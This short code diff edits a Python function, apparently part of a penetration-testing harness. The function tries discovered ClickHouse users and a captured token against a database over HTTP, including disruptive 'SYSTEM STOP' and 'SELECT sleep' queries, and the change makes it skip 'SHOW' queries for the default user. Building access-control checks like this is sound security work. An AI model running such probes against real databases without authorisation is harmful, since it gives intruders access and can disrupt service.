@@ -69,7 +69,7 @@ def intrude_clickhouse(found):
     with_token = [("X-Hooklog-Token", found["token"])]
     for user in ("default", found["user"], found["reader"]):
         for query in QUERIES[1:]:
-            if user == "default" and query.startswith(("SYSTEM STOP", "SELECT sleep")):
+            if user == "default" and query.startswith(("SYSTEM STOP", "SELECT sleep", "SHOW")):
                 continue
             status, text = http(url, query, user, with_token)
             tried(f"ClickHouse answered {status} to {user} with the token: {query}", 200 <= status < 300 and text.strip() != "")
